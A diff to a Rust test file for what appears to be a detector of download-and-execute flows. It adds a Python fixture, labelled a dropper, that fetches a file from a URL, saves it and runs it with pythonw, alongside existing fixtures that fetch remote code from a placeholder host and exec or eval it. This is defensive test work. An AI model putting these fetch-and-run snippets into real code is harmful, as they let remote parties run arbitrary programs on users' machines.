@@ -289,6 +289,9 @@ fn a_url_the_caller_passes_is_a_flow_only_where_a_constant_is_passed() {
     // A host written in the code is the package's own choice, parameter or not.
     let own_host = py("import requests\ndef update(name):\n    code = requests.get('https://x.example.invalid/' + name).text\n    exec(code)\n");
     assert_eq!(own_host.len(), 1, "{own_host:?}");
+    // Saved to a file and started as a program: a dropper, whoever passes the URL.
+    let dropper = py("import subprocess, requests\ndef main(url, filename):\n    response = requests.get(url)\n    with open(filename, 'wb') as f:\n        f.write(response.content)\n    subprocess.run(['pythonw', filename])\n");
+    assert_eq!(dropper.len(), 1, "{dropper:?}");
     let js_param = js("async function run(url) {\n  const res = await fetch(url);\n  eval(await res.text());\n}\nrun('https://x.example.invalid/p.js');\n");
     assert_eq!(js_param.len(), 1, "{js_param:?}");
 }
